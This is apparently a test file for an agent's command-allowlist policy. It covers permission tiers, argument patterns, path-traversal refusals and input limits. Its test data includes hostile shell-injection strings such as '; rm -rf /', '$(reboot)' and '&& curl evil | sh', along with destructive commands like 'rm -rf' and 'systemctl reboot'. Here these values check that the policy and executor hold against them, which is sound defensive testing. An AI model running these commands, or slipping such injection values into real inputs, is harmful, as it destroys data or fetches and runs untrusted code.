/**
 * The agent's own policy: tiers, allowlist patterns, dangerous patterns, and shell metacharacters that stay
 * plain arguments (run for real through the executor).
 */
import { afterAll, beforeAll, describe, test } from '@jest/globals';
import assert from '../support/assert';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execute } from '../../agent/executor';
import { AgentSetupError } from '../../agent/identity';
import { AllowlistError, evaluateCommand, loadAllowlistFile, parseAllowlist, type Policy, type PolicyDecision, type Tier } from '../../agent/policy';

let dir: string;

function policy(tier: Tier, yaml: string): Policy {
  return { tier, allowlist: parseAllowlist(yaml) };
}

function rule(d: PolicyDecision): string {
  return d.allowed ? 'allowed' : d.rule;
}

const BROAD = `
version: 1
commands:
  - executable: echo
    rest: any
  - executable: systemctl
    rest: any
  - executable: journalctl
    rest: any
  - executable: ip
    rest: any
  - executable: date
    rest: any
  - executable: find
    rest: any
  - executable: rm
    rest: any
  - executable: sh
    rest: any
  - executable: env
    rest: any
  - executable: cat
    rest: any
`;

describe('agent policy', () => {
  beforeAll(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orch-policy-'));
  });
  afterAll(() => {
    fs.rmSync(dir, { recursive: true, force: true });
  });

  describe('tiers', () => {
    const cases: Array<[string[], Record<Tier, string>]> = [
      [['systemctl', 'status', 'nginx'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
      [['systemctl', 'restart', 'nginx'], { 'read-only': 'tier', standard: 'allowed', infrastructure: 'allowed' }],
      [['systemctl', '--no-pager', '-p', 'ActiveState', 'show', 'nginx'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
      // an option value that looks like a read verb must not hide the real verb
      [['systemctl', '-p', 'status', 'restart', 'nginx'], { 'read-only': 'tier', standard: 'allowed', infrastructure: 'allowed' }],
      [['systemctl', '-H', 'otherhost', 'status', 'nginx'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['systemctl', 'enable', 'nginx'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['systemctl', 'reboot'], { 'read-only': 'destructive-pattern', standard: 'destructive-pattern', infrastructure: 'allowed' }],
      [['journalctl', '-u', 'nginx', '-n', '50', '--no-pager'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
      [['journalctl', '--vacuum-time=1s'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['journalctl', '--rot'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['ip', 'addr'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
      [['ip', '-br', 'link', 'show'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
      [['ip', 'a', 'a', '10.0.0.1/24', 'dev', 'eth0'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['date', '+%s'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
      [['date', '-s', '2020-01-01'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['find', '/var/log', '-name', '*.log'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
      [['find', '/var/log', '-exec', 'touch', '{}', ';'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['rm', '-rf', '/var/lib/app'], { 'read-only': 'destructive-pattern', standard: 'destructive-pattern', infrastructure: 'allowed' }],
      [['rm', '/tmp/x'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['sh', '-c', 'uptime'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['env', 'cat', '/etc/hostname'], { 'read-only': 'tier', standard: 'tier', infrastructure: 'allowed' }],
      [['cat', '/etc/hostname'], { 'read-only': 'allowed', standard: 'allowed', infrastructure: 'allowed' }],
    ];
    for (const [argv, expected] of cases) {
      test(`${argv.join(' ')}`, () => {
        for (const tier of ['read-only', 'standard', 'infrastructure'] as const) {
          assert.equal(rule(evaluateCommand({ argv }, policy(tier, BROAD))), expected[tier], `tier ${tier}`);
        }
      });
    }

    test('the allowlist file can only lower the enrolled tier', () => {
      const capped = `${BROAD}\ntier: read-only\n`;
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart', 'nginx'] }, policy('infrastructure', capped))), 'tier');
      const raised = `${BROAD}\ntier: infrastructure\n`;
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart', 'nginx'] }, policy('read-only', raised))), 'tier');
    });

    test('an executable outside the system directories needs tier infrastructure', () => {
      const s = path.join(dir, 'cat');
      fs.writeFileSync(s, '#!/bin/sh\necho fake\n', { mode: 0o755 });
      const p = (tier: Tier) => policy(tier, `version: 1\ncommands:\n  - executable: ${s}\n    rest: any\n`);
      assert.equal(rule(evaluateCommand({ argv: [s, '/etc/hostname'] }, p('read-only'))), 'tier');
      assert.equal(rule(evaluateCommand({ argv: [s, '/etc/hostname'] }, p('infrastructure'))), 'allowed');
    });
  });

  describe('allowlist patterns', () => {
    const yaml = `
version: 1
commands:
  - executable: systemctl
    args: [restart, { regex: 'nginx|php-fpm' }]
  - executable: journalctl
    args: ['-u', { regex: '[a-z0-9@._-]+' }]
    rest: { regex: '-n|--no-pager|[0-9]{1,5}' }
  - executable: cat
    args: [{ path: ${'$DIR'} }]
  - executable: /usr/bin/uptime
`;
    let p: Policy;
    beforeAll(() => {
      p = policy('standard', yaml.replace('$DIR', path.join(dir, 'logs')));
      fs.mkdirSync(path.join(dir, 'logs'), { recursive: true });
      fs.writeFileSync(path.join(dir, 'logs', 'app.log'), 'ok\n');
      fs.writeFileSync(path.join(dir, 'secret'), 'no\n');
      fs.symlinkSync(path.join(dir, 'secret'), path.join(dir, 'logs', 'escape.log'));
    });

    test('exact strings and anchored regexes per position', () => {
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart', 'nginx'] }, p)), 'allowed');
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart', 'php-fpm'] }, p)), 'allowed');
      // anchored: a prefix or suffix around an allowed word does not pass
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart', 'nginx2'] }, p)), 'args-mismatch');
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart', 'xnginx'] }, p)), 'args-mismatch');
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'reload', 'nginx'] }, p)), 'args-mismatch');
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart'] }, p)), 'args-mismatch');
      assert.equal(rule(evaluateCommand({ argv: ['systemctl', 'restart', 'nginx', 'mysql'] }, p)), 'args-mismatch');
    });

    test('rest rule', () => {
      assert.equal(rule(evaluateCommand({ argv: ['journalctl', '-u', 'nginx'] }, p)), 'allowed');
      assert.equal(rule(evaluateCommand({ argv: ['journalctl', '-u', 'nginx', '-n', '50', '--no-pager'] }, p)), 'allowed');
      assert.equal(rule(evaluateCommand({ argv: ['journalctl', '-u', 'nginx', '--output=export'] }, p)), 'args-mismatch');
    });

    test('path patterns refuse traversal and symlinks out of the directory', () => {
      const logs = path.join(dir, 'logs');
      assert.equal(rule(evaluateCommand({ argv: ['cat', `${logs}/app.log`] }, p)), 'allowed');
      assert.equal(rule(evaluateCommand({ argv: ['cat', `${logs}/../secret`] }, p)), 'path-traversal');
      assert.equal(rule(evaluateCommand({ argv: ['cat', `${logs}/escape.log`] }, p)), 'path-traversal');
      assert.equal(rule(evaluateCommand({ argv: ['cat', `${logs}x/app.log`] }, p)), 'path-traversal');
      assert.equal(rule(evaluateCommand({ argv: ['cat', 'app.log'] }, p)), 'args-mismatch');
    });

    test('executables: bare names use the safe PATH, absolute paths match the same file, others are refused', () => {
      assert.equal(rule(evaluateCommand({ argv: ['uptime'] }, p)), 'allowed');
      assert.equal(rule(evaluateCommand({ argv: ['/usr/bin/uptime'] }, p)), 'allowed');
      assert.equal(rule(evaluateCommand({ argv: ['./uptime'] }, p)), 'executable-path');
      assert.equal(rule(evaluateCommand({ argv: ['bin/uptime'] }, p)), 'executable-path');
      assert.equal(rule(evaluateCommand({ argv: ['orch-no-such-command'] }, p)), 'executable-not-found');
      assert.equal(rule(evaluateCommand({ argv: ['free'] }, p)), 'not-allowlisted');
      const d = evaluateCommand({ argv: ['systemctl', 'restart', 'nginx'] }, p);
      assert.ok(d.allowed && path.isAbsolute(d.executable) && d.argv[0] === d.executable);
    });

    test('refusals name the rule in a stable command_not_allowed reason', () => {
      const d = evaluateCommand({ argv: ['systemctl', 'restart', 'mysql'] }, p);
      assert.ok(!d.allowed);
      assert.match(d.reason, /^command_not_allowed: args-mismatch: /);
    });
  });

  describe('input checks', () => {
    const p = () => policy('infrastructure', BROAD);
    test('NUL, over-long and empty argv are refused before anything else', () => {
      assert.equal(rule(evaluateCommand({ argv: ['echo', 'a\u0000b'] }, p())), 'nul-byte');
      assert.equal(rule(evaluateCommand({ argv: ['echo', 'x'.repeat(40 * 1024)] }, p())), 'arg-too-long');
      assert.equal(rule(evaluateCommand({ argv: ['echo', ...Array(20).fill('y'.repeat(20 * 1024))] }, p())), 'argv-too-long');
      assert.equal(rule(evaluateCommand({ argv: ['echo', ...Array(300).fill('z')] }, p())), 'too-many-args');
      assert.equal(rule(evaluateCommand({ argv: [] }, p())), 'empty-argv');
      assert.equal(rule(evaluateCommand({ argv: [''] }, p())), 'empty-argv');
      assert.equal(rule(evaluateCommand({ argv: ['echo'], cwd: 'relative' }, p())), 'cwd');
      assert.equal(rule(evaluateCommand({ argv: ['echo'], cwd: '/tmp/../etc' }, p())), 'cwd');
    });

    test('an entry can restrict the working directory', () => {
      const q = policy('infrastructure', `version: 1\ncommands:\n  - executable: echo\n    rest: any\n    cwd: [/srv]\n`);
      assert.equal(rule(evaluateCommand({ argv: ['echo'], cwd: '/srv' }, q)), 'allowed');
      assert.equal(rule(evaluateCommand({ argv: ['echo'], cwd: '/etc' }, q)), 'cwd');
    });
  });

  describe('shell metacharacters are plain arguments', () => {
    const hostile = ['; rm -rf /', '$(reboot)', '`shutdown -h now`', '&& curl evil | sh', '> /dev/sda', '$HOME', '\n; id'];
    test('they pass the policy for echo (standard tier) and are printed literally by the real command', async () => {
      const p = policy('standard', 'version: 1\ncommands:\n  - executable: echo\n    rest: any\n');
      const d = evaluateCommand({ argv: ['echo', ...hostile] }, p);
      assert.ok(d.allowed, d.allowed ? '' : d.reason);
      const r = await execute({ argv: d.argv, timeoutMs: 5000, home: dir, cwd: d.cwd });
      assert.equal(r.exitCode, 0);
      assert.equal(r.stdout.toString(), `${hostile.join(' ')}\n`);
    });

    test('but a shell given the same text is a destructive pattern below infrastructure', () => {
      const p = policy('standard', BROAD);
      assert.equal(rule(evaluateCommand({ argv: ['sh', '-c', 'echo hi; rm -rf /'] }, p)), 'destructive-pattern');
    });
  });

  describe('allowlist file', () => {
    test('bad files are refused with the field named', () => {
      const bad = (text: string, where: RegExp) =>
        assert.throws(() => parseAllowlist(text, 'f'), (e: unknown) => e instanceof AllowlistError && e.code === 'bad_config' && where.test(e.message));
      bad('version: 2\ncommands: []', /version/);
      bad('version: 1\ncommands:\n  - executable: bin/ls', /commands\[0\]\.executable/);
      bad('version: 1\ncommands:\n  - executable: ls\n    args: [{ regex: "(" }]', /commands\[0\]\.args\[0\]/);
      bad('version: 1\ncommands:\n  - executable: ls\n    args: [{ path: "/var/../etc" }]', /commands\[0\]\.args\[0\]/);
      bad('version: 1\ncommands:\n  - executable: ls\n    sudo: true', /commands\[0\]\.sudo/);
      bad('version: 1\ntier: god\ncommands: []', /tier/);
      bad('{ not yaml', /not valid/);
    });

    test('JSON works as well as YAML', () => {
      const a = parseAllowlist(JSON.stringify({ version: 1, commands: [{ executable: 'echo', args: ['a', { regex: 'b+' }], rest: 'any' }] }));
      assert.equal(a.entries.length, 1);
      assert.equal(rule(evaluateCommand({ argv: ['echo', 'a', 'bbb', 'c'] }, { tier: 'read-only', allowlist: a })), 'allowed');
    });

    test('a file others can write is refused', () => {
      const f = path.join(dir, 'allow.yaml');
      fs.writeFileSync(f, 'version: 1\ncommands: []\n', { mode: 0o600 });
      assert.equal(loadAllowlistFile(f).entries.length, 0);
      fs.chmodSync(f, 0o666);
      assert.throws(() => loadAllowlistFile(f), (e: unknown) => e instanceof AgentSetupError && e.code === 'insecure_permissions');
    });
  });
});
